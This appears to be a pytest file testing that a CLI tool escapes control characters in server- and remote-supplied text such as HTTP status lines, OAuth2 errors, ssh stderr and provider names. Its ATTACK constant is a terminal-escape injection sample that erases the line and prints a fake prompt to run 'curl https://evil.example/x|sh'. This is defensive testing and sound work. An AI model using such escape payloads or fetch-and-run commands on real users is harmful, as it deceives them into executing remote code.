"""Text a server or a remote controls never reaches the terminal raw (issue 25, item 4): an HTTP status
line, an OAuth2 error_description, a remote command's stderr, a provider name, the watch log. Control
characters are shown escaped (`\\x1b`), newline and tab aside; JSON output stays JSON."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from harness.sigproc import Sig

# The example: set the window title, erase the line, return to its start, print a fake success.
ATTACK = "\x1b]0;title\x07\x1b[2K\r\x1b[32mOK: credential rotated; now run: curl https://evil.example/x|sh"
RAW = (b"\x1b", b"\x07", b"\r", b"\xc2\x9b")  # ESC, BEL, CR, and CSI (C1) as UTF-8


class RawServer:
    """A loopback TCP server answering each connection with the next canned bytes (the last one repeats)."""

    def __init__(self, answers: list[bytes]) -> None:
        self.answers = answers
        self.requests: list[bytes] = []
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(5)
                data = b""
                try:
                    while b"\r\n\r\n" not in data:
                        chunk = conn.recv(65536)
                        if not chunk:
                            break
                        data += chunk
                    head, _, body = data.partition(b"\r\n\r\n")
                    length = next((int(line.split(b":", 1)[1]) for line in head.split(b"\r\n")
                                   if line.lower().startswith(b"content-length:")), 0)
                    while len(body) < length:
                        chunk = conn.recv(65536)
                        if not chunk:
                            break
                        body += chunk
                    self.requests.append(head)
                    index = min(len(self.requests), len(self.answers)) - 1
                    conn.sendall(self.answers[index])
                except OSError:
                    pass

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.sock.close()


def _json_answer(status: str, body: dict[str, object]) -> bytes:
    data = json.dumps(body).encode()
    return (f"HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {len(data)}\r\n"
            "Connection: close\r\n\r\n").encode() + data


@pytest.fixture
def raw_servers() -> Iterator[list[RawServer]]:
    servers: list[RawServer] = []
    try:
        yield servers
    finally:
        for srv in servers:
            srv.close()


def _bytes_run(sig: Sig, *args: str, input: bytes | None = None,
               env: dict[str, str] | None = None) -> subprocess.CompletedProcess[bytes]:
    """sig with stdout/stderr as bytes (text mode would turn a raw CR into a newline and hide it)."""
    return subprocess.run(sig.argv(*args), env={**sig.env, **(env or {})}, cwd=sig.user_home, capture_output=True,
                          input=input, stdin=None if input is not None else subprocess.DEVNULL, timeout=60)


def _assert_clean(stream: bytes) -> None:
    for raw in RAW:
        assert raw not in stream, f"raw {raw!r} reached the terminal: {stream!r}"


def test_a_status_line_with_escapes(sig_init: Sig, raw_servers: list[RawServer]) -> None:
    srv = RawServer([ATTACK.encode() + b"\r\n\r\n"])  # not even HTTP: the line is quoted in the error
    raw_servers.append(srv)
    sig_init("login", f"{srv.url}/", "--token-stdin", "--as", "raw", input="tok-ESC-0001", check=0)
    r = _bytes_run(sig_init, "request", f"{srv.url}/")
    assert r.returncode == 1 and srv.requests
    _assert_clean(r.stderr)
    assert b"failed: \\x1b]0;title\\x07\\x1b[2K\\x0d\\x1b[32mOK: credential rotated" in r.stderr
    # JSON errors stay JSON, with the text intact
    r = _bytes_run(sig_init, "request", f"{srv.url}/", "--format", "json")
    error = json.loads(r.stderr)["error"]
    assert "\x1b]0;title\x07" in error["message"]


def test_an_oauth2_error_description_and_the_watch_log(sig_init: Sig, raw_servers: list[RawServer]) -> None:
    refusal = _json_answer("400 Bad Request", {"error": "invalid_client", "error_description": ATTACK})
    srv = RawServer([refusal])
    raw_servers.append(srv)
    r = _bytes_run(sig_init, "login", f"{srv.url}/", "--as", "oa", "--strategy", "oauth2", "--token-url",
                   f"{srv.url}/token", "--client-id", "c", "--client-secret-stdin", input=b"cs-ESC-0002")
    assert r.returncode == 1 and srv.requests
    _assert_clean(r.stderr)
    assert b"\\x1b]0;title" in r.stderr and b"cs-ESC-0002" not in r.stderr
    # an expired token (a JWT whose exp has passed), then a renewal refused with the same text: the watch log
    import base64

    claims = base64.urlsafe_b64encode(json.dumps({"exp": 1_000_000_000}).encode()).rstrip(b"=").decode()
    token = _json_answer("200 OK", {"access_token": f"eyJhbGciOiJub25lIn0.{claims}.c2ln", "token_type": "Bearer"})
    srv2 = RawServer([token, refusal])
    raw_servers.append(srv2)
    sig_init("login", f"{srv2.url}/", "--as", "ob", "--strategy", "oauth2", "--token-url", f"{srv2.url}/token",
             "--client-id", "c", "--client-secret-stdin", input="cs-ESC-0004", check=0)
    sig_init("watch", "add", "ob", check=0)
    r = _bytes_run(sig_init, "watch", "start", "--once", "--format", "table")
    assert len(srv2.requests) == 2, r.stderr
    _assert_clean(r.stderr)
    _assert_clean(r.stdout)
    assert b"\\x1b]0;title" in r.stderr + r.stdout
    r = _bytes_run(sig_init, "watch", "start", "--once", "--format", "json")
    assert ATTACK in json.loads(r.stdout)[0]["detail"]


def test_a_remote_command_stderr(sig_init: Sig, tmp_path: Path) -> None:
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "ssh").write_text("#!/bin/sh\ncase \" $* \" in *' -O exit '*) exit 0;; esac\n"
                              "printf 'tar: \\033]0;title\\007\\033[2K\\r\\033[32mOK: synced\\n' >&2\nexit 2\n")
    (fake / "ssh").chmod(0o755)
    sig_init("remote", "add", "box", "box.example.com", check=0)
    sig_init("login", "https://api.example.com", "--token-stdin", "--as", "api", input="tok-ESC-0005", check=0)
    r = _bytes_run(sig_init, "sync", "push", "box", env={"PATH": f"{fake}:{os.environ['PATH']}"})
    assert r.returncode == 1
    _assert_clean(r.stderr)
    assert b"failed: tar: \\x1b]0;title\\x07" in r.stderr


def test_a_provider_name_in_tables_and_messages(sig_init: Sig) -> None:
    sig_init("login", "https://api.example.com", "--token-stdin", "--as", "api", input="tok-ESC-0006", check=0)
    cfg = sig_init.home / "config.yaml"
    cfg.write_text(cfg.read_text().replace("    name: api.example.com\n",
                                           '    name: "\\e]0;title\\a\\e[2K\\rcorp"\n', 1))
    r = _bytes_run(sig_init, "providers", "--format", "table")
    assert r.returncode == 0, r.stderr
    _assert_clean(r.stdout)
    assert b"\\x1b]0;title" in r.stdout
    r = _bytes_run(sig_init, "providers", "--format", "json")
    assert json.loads(r.stdout)[0]["name"] == "\x1b]0;title\x07\x1b[2K\rcorp"
    r = _bytes_run(sig_init, "providers", "--format", "plain")
    _assert_clean(r.stdout)
